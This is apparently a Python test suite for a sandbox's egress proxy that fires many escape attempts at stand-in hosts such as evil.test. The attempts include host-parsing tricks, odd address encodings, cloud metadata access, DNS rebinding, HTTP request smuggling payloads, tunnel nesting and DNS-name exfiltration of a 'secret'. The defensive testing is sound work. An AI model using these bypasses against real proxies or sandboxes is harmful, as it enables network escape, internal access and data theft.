# The proxy, which is the one way out. `allowed.test` and names below `below.test` are allowed, ports 80 and
# 443; the bystander keeps them, a name server, and hosts that are not allowed, and reports whom it heard.
# Without a sandbox the attempts use a proxy that refuses nothing.

EVIL = "93.184.215.15"
SMUGGLED = b"GET /smuggled HTTP/1.1\r\nHost: allowed.test\r\n\r\n"


def opened_proxy(port=None):
    if port is None:
        port = int(os.environ["HTTP_PROXY"].rpartition(":")[2]) if facts.is_proxied else facts.proxy
    return socket.create_connection(("127.0.0.1", port), 3)


# For what must come, on a busy machine, too.
PATIENCE = 10
# For what may never come.
IMPATIENCE = 1


def answer(connection, end=None):
    """Returns what comes back until `end`, or until nothing more does."""
    received = b""
    with contextlib.suppress(TimeoutError, ConnectionResetError):
        while data := connection.recv(1 << 16):
            received += data
            if end and received.endswith(end):
                break
            if not end:
                connection.settimeout(IMPATIENCE)
    return received


def ask(request, port=None):
    """Sends a request and returns what comes back."""
    if isinstance(request, str):
        request = request.encode()
    with opened_proxy(port) as connection:
        # Without a sandbox the attempt must succeed, although not always with an answer.
        connection.settimeout(IMPATIENCE if facts.is_proxied else 3 * IMPATIENCE)
        connection.sendall(request)
        return answer(connection)


def needs_proxy():
    """A proxy that serves nobody would hold everything."""
    with opened_proxy() as connection:
        connection.settimeout(PATIENCE)
        connection.sendall(b"GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
        served = answer(connection, b"allowed")
    if not served.endswith(b"allowed"):
        raise RuntimeError(f"the proxy does not serve what is allowed: {served}")


def tunnel(authority):
    needs_proxy()
    ask(f"CONNECT {authority} HTTP/1.1\r\nHost: allowed.test\r\n\r\n")


def get(url, fields="Host: allowed.test\r\n"):
    needs_proxy()
    ask(f"GET {url} HTTP/1.1\r\n{fields}\r\n")


def post(fields, body):
    needs_proxy()
    ask(b"POST http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n" + fields + b"\r\n" + body)


# Hosts that nobody allowed.


def unlisted_host():
    tunnel("evil.test:80")


def unlisted_host_by_plain_request():
    get("http://evil.test/", "")


def unlisted_host_by_scheme():
    get("https://evil.test:80/", "")


def unlisted_host_by_lower_case_method():
    needs_proxy()
    ask("connect evil.test:80 HTTP/1.1\r\n\r\n")


def unlisted_host_by_host_header():
    needs_proxy()
    ask("GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n")


def unlisted_host_by_old_version():
    needs_proxy()
    ask("GET http://evil.test/ HTTP/1.0\r\n\r\n")


def unlisted_port():
    tunnel("allowed.test:8080")


def unlisted_port_by_plain_request():
    get("http://allowed.test:8080/")


def unlisted_address():
    tunnel(EVIL + ":80")


def name_with_allowed_end():
    tunnel("notbelow.test:80")


def name_with_allowed_beginning():
    tunnel("allowed.test.evil.test:80")


def parent_of_allowed_names():
    tunnel("below.test:80")


def name_as_message():
    # The name itself is the message: its name server reads it.
    tunnel("secret-in-a-name.evil.test:80")


def by_socks():
    needs_proxy()
    ask(b"\4\1" + struct.pack(">H", 80) + socket.inet_aton(EVIL) + b"\0")


# Two readings of one host.


def nul_in_host():
    tunnel("evil.test\0.below.test:80")


def nul_in_url():
    get("http://evil.test\0.below.test/", "")


def encoded_nul_in_host():
    tunnel("evil.test%00.below.test:80")


def user_information():
    tunnel("allowed.test@evil.test:80")


def user_information_with_port():
    tunnel("allowed.test:80@evil.test:80")


def user_information_in_url():
    get("http://allowed.test@evil.test/", "")


def password_in_url():
    get("http://allowed.test:80@evil.test/", "")


def encoded_user_information():
    get("http://allowed.test%40evil.test/", "")


def backslash_in_url():
    get("http://evil.test\\@allowed.test/", "")


def fragment_in_host():
    tunnel("evil.test:80#.below.test:80")


def query_in_host():
    get("http://evil.test?.below.test/", "")


def upper_case():
    tunnel("EVIL.TEST:80")


def trailing_dot():
    tunnel("evil.test.:80")


def wide_letters():
    tunnel("\uff45vil.test:80")


def wide_dot():
    tunnel("evil\u3002test:80")


def look_alike():
    # Its first letter is Cyrillic.
    tunnel("xn--llowed-4nf.test:80")


def other_host_header():
    get("http://allowed.test/", "Host: evil.test\r\n")


def second_host_header():
    get("http://allowed.test/", "Host: allowed.test\r\nHost: evil.test\r\n")


def host_header_with_space():
    get("http://allowed.test/", "Host : evil.test\r\n")


def folded_host_header():
    get("http://allowed.test/", "X: y\r\n Host: z\r\nHost:\r\n evil.test\r\n")


# Addresses that are written unusually.


def decimal_address():
    tunnel("%d:80" % struct.unpack(">I", socket.inet_aton(EVIL)))


def octal_address():
    tunnel("0135.0270.0327.017:80")


def hexadecimal_address():
    tunnel("0x5db8d70f:80")


def mixed_address():
    tunnel("93.0xb8.0327.15:80")


def short_address():
    tunnel(f"127.1:{facts.tcp4}")


def zero_address():
    tunnel(f"0:{facts.tcp4}")


def ipv6_address():
    tunnel("[2606:2800:21f::15]:80")


def ipv6_loopback():
    tunnel(f"[::1]:{facts.tcp6}")


def ipv6_mapped_address():
    tunnel(f"[::ffff:{EVIL}]:80")


def ipv6_with_zone():
    tunnel(f"[::1%lo]:{facts.tcp6}")


def local_name():
    tunnel(f"localhost:{facts.tcp4}")


def metadata_service():
    get("http://169.254.169.254/latest/meta-data/", "")


# Allowed names that lead into the network of the user.


def name_of_loopback():
    tunnel("to-127-0-0-1.below.test:80")


def name_of_private_address():
    tunnel("to-10-1-2-3.below.test:80")


def name_of_metadata_service():
    get("http://to-169-254-169-254.below.test/", "")


def name_of_private_ipv6_address():
    tunnel("to6-fd00--1.below.test:80")


def name_of_mapped_address():
    tunnel("to6---ffff-10_1_2_3.below.test:80")


def name_that_changes():
    # The first answer is public; a second question gets another one.
    needs_proxy()
    for _ in range(3):
        ask("CONNECT first-93-184-215-14-then-10-1-2-3.below.test:80 HTTP/1.1\r\n\r\n")


def name_with_two_addresses():
    needs_proxy()
    for first, second in (("10-1-2-3", "169-254-169-254"), ("169-254-169-254", "10-1-2-3")):
        ask(f"CONNECT both-{first}-and-{second}.below.test:80 HTTP/1.1\r\n\r\n")


# A second request behind the first.


def second_request():
    needs_proxy()
    ask(b"GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n" + SMUGGLED)


def second_request_elsewhere():
    needs_proxy()
    ask(b"GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\nGET http://evil.test/ HTTP/1.1\r\n\r\n")


def second_request_after_body():
    post(b"Content-Length: 3\r\n", b"abc" + SMUGGLED)


def second_request_later():
    needs_proxy()
    with opened_proxy() as connection:
        connection.settimeout(IMPATIENCE)
        connection.sendall(b"GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 1\r\n\r\n")
        time.sleep(0.05)
        connection.sendall(b"x" + SMUGGLED)
        answer(connection)


def length_and_coding():
    post(b"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n" % (5 + len(SMUGGLED)), b"0\r\n\r\n" + SMUGGLED)


def coding_and_length():
    post(b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n", b"%x\r\n" % len(SMUGGLED) + SMUGGLED + b"\r\n0\r\n\r\n")


def two_lengths():
    post(b"Content-Length: %d\r\nContent-Length: 0\r\n" % len(SMUGGLED), SMUGGLED)


def list_of_lengths():
    post(b"Content-Length: 0, %d\r\n" % len(SMUGGLED), SMUGGLED)


def length_with_sign():
    post(b"Content-Length: +%d\r\n" % len(SMUGGLED), SMUGGLED)


def coding_with_control_character():
    post(b"Content-Length: %d\r\nTransfer-Encoding: \vchunked\r\n" % (5 + len(SMUGGLED)), b"0\r\n\r\n" + SMUGGLED)


def coding_with_space():
    post(b"Content-Length: %d\r\nTransfer-Encoding : chunked\r\n" % (5 + len(SMUGGLED)), b"0\r\n\r\n" + SMUGGLED)


def coding_with_underscore():
    post(b"Content-Length: %d\r\nTransfer_Encoding: chunked\r\n" % (5 + len(SMUGGLED)), b"0\r\n\r\n" + SMUGGLED)


def unknown_coding():
    post(b"Content-Length: %d\r\nTransfer-Encoding: xchunked\r\n" % (5 + len(SMUGGLED)), b"0\r\n\r\n" + SMUGGLED)


def folded_coding():
    post(b"Content-Length: %d\r\nTransfer-Encoding:\r\n chunked\r\n" % (5 + len(SMUGGLED)), b"0\r\n\r\n" + SMUGGLED)


def bare_line_feeds():
    get("http://allowed.test/", "X: y\n\nGET /smuggled HTTP/1.1\nHost: allowed.test\n\n")


def bare_line_feed_in_field():
    get("http://allowed.test/", "X: y\nHost: evil.test\r\n")


def bare_return_in_field():
    get("http://allowed.test/", "X: y\rHost: evil.test\r\n")


def chunk_extension():
    body = b"0;x=\n\n" + SMUGGLED
    post(b"Transfer-Encoding: chunked\r\n", body)


def upgrade():
    get("http://allowed.test/", "Host: allowed.test\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n")


def tunnel_in_tunnel():
    needs_proxy()
    with opened_proxy() as connection:
        connection.settimeout(PATIENCE)
        connection.sendall(b"CONNECT allowed.test:443 HTTP/1.1\r\n\r\n")
        if b" 200 " not in connection.recv(1 << 12):
            raise RuntimeError("no tunnel to what is allowed")
        connection.settimeout(IMPATIENCE)
        connection.sendall(b"CONNECT evil.test:80 HTTP/1.1\r\n\r\n")
        answer(connection)


# Around it.


def proxy_of_other_sandbox():
    # One that allows everything this one does not.
    needs_proxy()
    ask("CONNECT evil.test:80 HTTP/1.1\r\n\r\n", facts.other_proxy or facts.proxy)


def proxy_of_other_program():
    needs_proxy()
    ask("CONNECT evil.test:80 HTTP/1.1\r\n\r\n", facts.proxy)


def without_the_proxy():
    needs_proxy()
    socket.create_connection((EVIL, 80), 2).close()


def allowed_host_without_the_proxy():
    needs_proxy()
    socket.create_connection(("93.184.215.14", 8080), 2).close()


def ipv6_without_the_proxy():
    needs_proxy()
    socket.create_connection(("2606:2800:21f::15", 80), 2).close()


def name_server():
    needs_proxy()
    question = struct.pack(">HHHHHH", 1, 0x100, 1, 0, 0, 0) + b"\6secret\4evil\4test\0" + struct.pack(">HH", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as opened:
        opened.sendto(question, ("127.0.0.53", 53))


def name_by_system():
    needs_proxy()
    socket.getaddrinfo("secret.evil.test", 80)
